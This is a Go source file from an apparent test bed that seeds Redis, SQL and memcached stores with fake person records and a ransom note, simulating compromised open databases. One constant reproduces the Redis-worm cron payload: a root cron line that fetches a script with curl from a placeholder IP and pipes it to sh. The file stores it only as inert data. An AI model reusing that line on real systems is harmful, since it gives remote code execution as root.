package testbed

import (
	"context"
	"encoding/json"
	"fmt"
	"maps"
	"slices"
	"strconv"
	"strings"
)

// Where the corpus goes in each Debian store's open configuration.
const (
	// redisCorpusDB is the keyspace holding the people (hashes
	// "user:<id>"), the ransom note (a string key named RansomName) and
	// the cron line the Redis cron-write attack leaves ("backup1").
	redisCorpusDB = 2
	// RedisCronLine is what the 2016–2020 Redis worms wrote into a key
	// before CONFIG SET dir /var/spool/cron; SAVE. Planted, never run: the
	// test bed's Redis has no cron and saves nothing.
	RedisCronLine = "\n\n*/1 * * * * root curl -fsSL http://203.0.113.9/x.sh | sh\n\n"
	// SQLCorpusDB is the MariaDB schema and PostgreSQL database holding
	// the people, as rows of table users with the columns of
	// Person.Fields; the ransom note is the one row of table README in a
	// schema (database) named RansomName, column message.
	SQLCorpusDB = "appdata"
)

// plantRedisCorpus writes the corpus into redisCorpusDB and returns the
// keys it holds.
func (s *Server) plantRedisCorpus(ctx context.Context, db int) (uint64, error) {
	c, err := s.adminConn(ctx)
	if err != nil {
		return 0, err
	}
	defer c.Close()
	cmds := [][]string{{"SELECT", strconv.Itoa(db)}}
	for _, p := range People {
		cmd := []string{"HSET", "user:" + p.ID}
		for _, f := range p.Fields() {
			cmd = append(cmd, f[0], f[1])
		}
		cmds = append(cmds, cmd)
	}
	cmds = append(cmds, []string{"SET", RansomName, RansomMessage}, []string{"SET", "backup1", RedisCronLine})
	if err := c.pipeline(cmds); err != nil {
		return 0, fmt.Errorf("redis plant corpus on %s: %w", s.Addr, err)
	}
	n := uint64(len(People) + 2)
	size, err := c.do("DBSIZE")
	if err != nil {
		return 0, err
	}
	if size != strconv.FormatUint(n, 10) {
		return 0, fmt.Errorf("redis corpus db on %s holds %s keys, planted %d", s.Addr, size, n)
	}
	return n, nil
}

// Where the corpus goes in the SQL stores: a schema (MariaDB) or database
// (PostgreSQL) "appdata" with a table "users" of the people, and one named
// RansomName with a table "README" holding the note.
const sqlCorpusTable = "users"

// corpusSQL writes the statements that plant the corpus, per database, for
// a dialect given by three functions: qualify(db, table) names a table;
// prelude(db) starts a database (CREATE DATABASE for MariaDB, nothing for
// PostgreSQL, where the caller connects to each database); after(db, table)
// follows a table's rows (ANALYZE, so the statistics a scan reads are
// exact). The returned map holds the rows planted per database.
func corpusSQL(qualify func(db, table string) string, prelude func(db string) string, after func(db, table string) string) (map[string]string, map[string]uint64) {
	stmts := map[string]string{}
	var b strings.Builder
	b.WriteString(prelude(SQLCorpusDB))
	var cols []string
	for _, f := range People[0].Fields() {
		cols = append(cols, f[0]+" VARCHAR(200)")
	}
	cols[0] += " PRIMARY KEY" // id
	fmt.Fprintf(&b, "CREATE TABLE %s (%s);\n", qualify(SQLCorpusDB, sqlCorpusTable), strings.Join(cols, ", "))
	for _, p := range People {
		var vals []string
		for _, f := range p.Fields() {
			vals = append(vals, sqlString(f[1]))
		}
		fmt.Fprintf(&b, "INSERT INTO %s VALUES (%s);\n", qualify(SQLCorpusDB, sqlCorpusTable), strings.Join(vals, ", "))
	}
	b.WriteString(after(SQLCorpusDB, sqlCorpusTable))
	stmts[SQLCorpusDB] = b.String()
	b.Reset()
	b.WriteString(prelude(RansomName))
	fmt.Fprintf(&b, "CREATE TABLE %s (message VARCHAR(400));\n", qualify(RansomName, "README"))
	fmt.Fprintf(&b, "INSERT INTO %s VALUES (%s);\n", qualify(RansomName, "README"), sqlString(RansomMessage))
	b.WriteString(after(RansomName, "README"))
	stmts[RansomName] = b.String()
	return stmts, map[string]uint64{SQLCorpusDB: uint64(len(People)), RansomName: 1}
}

// sqlString quotes a corpus value as an SQL string literal. The corpus holds
// no backslashes, so doubling single quotes suffices in both dialects.
func sqlString(s string) string { return "'" + strings.ReplaceAll(s, "'", "''") + "'" }

// plantPostgresCorpus creates the corpus databases, fills them over a
// session of each, and waits until the statistics show the rows.
func (s *Server) plantPostgresCorpus(ctx context.Context) (map[string]uint64, error) {
	stmts, rows := corpusSQL(
		func(_, table string) string { return `"` + table + `"` },
		func(string) string { return "" },
		func(_, table string) string { return `ANALYZE "` + table + `";` + "\n" })
	for _, db := range slices.Sorted(maps.Keys(stmts)) {
		if _, err := s.pgExec(ctx, "postgres", `CREATE DATABASE "`+db+`"`); err != nil {
			return nil, err
		}
		if _, err := s.pgExec(ctx, db, stmts[db]); err != nil {
			return nil, err
		}
	}
	return rows, s.waitLiveRows(ctx, rows)
}

// memcachedCorpus returns the corpus as memcached keys and values: each
// person as a JSON object under "user:<id>", the ransom note under
// RansomName.
func memcachedCorpus() [][2]string {
	var out [][2]string
	for _, p := range People {
		m := map[string]string{}
		for _, f := range p.Fields() {
			m[f[0]] = f[1]
		}
		v, _ := json.Marshal(m) // a map of strings always encodes
		out = append(out, [2]string{"user:" + p.ID, string(v)})
	}
	return append(out, [2]string{RansomName, RansomMessage})
}
